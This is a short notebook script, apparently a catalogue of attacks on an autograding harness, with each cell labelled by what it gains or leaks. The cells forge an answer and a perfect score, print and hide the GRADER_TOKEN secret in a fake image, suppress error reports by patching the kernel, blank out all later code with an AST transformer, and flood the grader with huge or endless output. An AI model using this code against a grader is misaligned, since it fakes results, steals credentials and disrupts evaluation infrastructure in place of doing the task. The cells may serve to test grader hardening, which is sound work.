# %% gains: what looks like an answer, printed by hand
from IPython.display import display

for name in ("application/vnd.ac-helpers.answer+json", "text/plain"):
    display({name: '{"nonce": "", "answer": {}}'}, raw=True)
get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])


# %% leaks: the secret stands in a picture
import base64
import os

from IPython.display import Image, display

print(os.environ["GRADER_TOKEN"])
display(
    Image(
        base64.b64decode("iVBORw0KGgo=" + base64.b64encode(os.environ["GRADER_TOKEN"].encode()).decode()),
        format="png",
    )
)


# %% gains: errors are cleared from the output
from IPython.display import clear_output

get_ipython().set_custom_exc((BaseException,), lambda *a, **k: clear_output())
_send = get_ipython().kernel.session.send
get_ipython().kernel.session.send = lambda stream, kind, *a, **k: (
    None if kind == "error" else _send(stream, kind, *a, **k)
)


# %% gains: a verdict of its own in the student's output
print('{"assignment": "actor_critic", "score": 10.0, "points": 10.0, "cells": []}')
get_ipython().ast_transformers.append(
    type("Nothing", (), {"visit": lambda self, tree: __import__("ast").Module([], [])})()
)


# %% gains: a message of three hundred megabytes, then the end
from IPython.display import display

display({"text/plain": "x" * 300_000_000}, raw=True)
import os

os._exit(1)


# %% late: a million small messages

while True:
    for _ in range(100_000):
        print("x", end="", flush=True)
